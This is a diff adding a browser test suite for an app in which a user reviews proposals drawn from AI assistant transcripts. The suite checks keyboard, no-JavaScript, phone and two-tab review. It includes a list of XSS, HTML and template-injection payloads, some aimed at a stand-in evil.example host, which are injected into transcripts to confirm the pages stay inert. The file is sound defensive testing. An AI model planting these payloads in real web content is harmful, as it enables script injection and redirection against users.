@@ -1,0 +1,98 @@
+"""The pages in a real browser, on a real home after a real night."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+
+import pytest
+
+from reverie.app import Home
+from reverie.changes.proposal import Status, Suggestion
+from reverie.core.origin import Origin
+from reverie.memory.operation import Add
+from reverie.transcripts.session import Evidence
+from tests.browsing import browse, morning_after, pages_of
+from tests.peers import AXE, npm_folder
+
+ATTACKS = (
+    "<script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1><style>*{display:none}</style></svg>",
+    "</pre></li></main><script>window.pwned=1</script>",
+    "</textarea><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    '" autofocus onfocus="window.pwned=1" x="',
+    "' onmouseover='window.pwned=1",
+    "<a href=javascript:window.pwned=1>click</a>",
+    "[click](javascript:window.pwned=1) ![x](http://evil.example/pwned.png) <http://evil.example/pwned>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<form action=http://evil.example/pwned><button>Approve</button></form>",
+    "<base href=http://evil.example/pwned/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/pwned'>",
+    "<div hx-get='http://evil.example/pwned' hx-trigger=load data-hx-on:load='window.pwned=1'>",
+    "{{ self.__init__.__globals__ }} {% raw %} ${7*7} #{7*7} pwned",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
+    "# pwned\n\n<div id=pwned>\n\n```\n</code></pre><script>window.pwned=1</script>",
+    "\u202epwned\u2066 \u200bin\u00advisible \U000e0041 \x1b[31mpwned\x07",
+)
+
+
+Morning = Callable[[], Home]
+
+
+@pytest.fixture(scope="module")
+def morning() -> Iterator[Morning]:
+    with morning_after() as opened:
+        yield opened
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("scenario", ["by_keyboard", "without_javascript", "on_a_phone"])
+def test_a_night_is_reviewed_to_empty(morning: Morning, scenario: str) -> None:
+    with morning() as home, pages_of(home) as url:
+        waiting = len(home.review.waiting())
+        browse(scenario, url)
+        assert home.review.waiting() == [] and len(decided(home)) == waiting >= 6
+
+
+@pytest.mark.browser
+def test_of_two_tabs_the_second_sees_what_the_first_did(morning: Morning) -> None:
+    with morning() as home, pages_of(home) as url:
+        browse("in_two_tabs", url)
+        assert decided(home) == [Status.LANDED]
+
+
+@pytest.mark.browser
+def test_nothing_a_transcript_says_runs_and_a_screen_reader_finds_nothing_in_its_way(morning: Morning) -> None:
+    with morning() as home:
+        addresses = [attacked(home, number, attack) for number, attack in enumerate(ATTACKS)]
+        with pages_of(home) as url:
+            axe = npm_folder(AXE) / "node_modules" / "axe-core" / "axe.min.js"
+            browse(
+                "hostile",
+                url,
+                str(axe),
+                *addresses,
+                "/session?id=attack-3",
+                "/search?q=pwned",
+                "/search?q=%3Cscript%3E",
+            )
+
+
+def decided(home: Home) -> list[Status]:
+    """What became of what Sam decided about."""
+    past = home.review.past([Status.LANDED, Status.REJECTED])
+    return [one.status for one in past if one.verdict and one.verdict.by == "sam"]
+
+
+def attacked(home: Home, number: int, attack: str) -> str:
+    """The page of a proposal whose session, title, names, reason and text all are the attack."""
+    name = f"attack-{number}"
+    said = {"role": "user", "content": attack, "name": attack}
+    head = {"id": name, "user": "sam", "title": attack, "started_at": "2026-03-30T09:00:00Z"}
+    home.sessions.add(head | {"messages": [said, {"role": "assistant", "content": attack}, said]})
+    evidence = (Evidence(name, 3, attack, Origin.TOOL),)
+    text = " ".join(attack.split())
+    suggestion = Suggestion("hermes", "USER.md", (Add("USER.md", text),), reason=attack, evidence=evidence)
+    made = home.review.propose(suggestion, land=False, asks=attack)
+    return f"/proposals/{made.proposal.id}"  # type: ignore[union-attr]
